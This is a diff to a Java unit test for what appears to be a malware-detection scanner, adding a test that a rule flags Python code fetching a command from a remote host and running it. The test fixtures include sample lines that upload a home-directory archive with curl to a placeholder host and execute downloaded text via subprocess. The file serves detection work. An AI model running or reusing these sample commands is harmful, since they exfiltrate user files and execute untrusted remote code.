@@ -14,6 +14,7 @@ import dev.kingsnake.rules.exfil.SecretFilesRule;
 import dev.kingsnake.rules.network.DownloadRule;
 import dev.kingsnake.rules.obfuscation.ObfuscatorMarkerRule;
 import dev.kingsnake.rules.persistence.DropperRule;
+import dev.kingsnake.rules.process.DownloadAndRunCommandRule;
 import dev.kingsnake.rules.process.EncodedCommandRule;
 import dev.kingsnake.rules.process.ShellCommandRule;
 import dev.kingsnake.rules.RecordingSink.Reported;
@@ -190,6 +191,22 @@ class HelperFunctionRulesTest {
                 + "    cmd = 'curl -k -F \"file=@' + home + '/logs.zip\" https://collect.example.invalid/up'\n"
                 + "    os.system(cmd)\n");
         assertTrue(curl.stream().allMatch(x -> x.severity() == Severity.HIGH), curl.toString());
+    }
+
+    @Test
+    void aCommandBuiltFromTheProgramsOwnSocketIsNotFetched() {
+        String src = "import requests, shlex, socket, subprocess\n"
+                + "def start(binary):\n"
+                + "    sock = socket.socket()\n"
+                + "    sock.bind(('localhost', 0))\n"
+                + "    port = sock.getsockname()[1]\n"
+                + "    cmd = shlex.split(' '.join([binary, '--listen', f'http://localhost:{port}']))\n"
+                + "    subprocess.Popen(cmd)\n"
+                + "def update():\n"
+                + "    tool = requests.get('https://example.invalid/tool').text\n"
+                + "    subprocess.Popen(shlex.split(tool))\n";
+        List<Reported> r = run(new DownloadAndRunCommandRule(), src);
+        assertEquals(List.of(10), r.stream().map(Reported::line).toList(), r.toString());
     }
 
     @Test
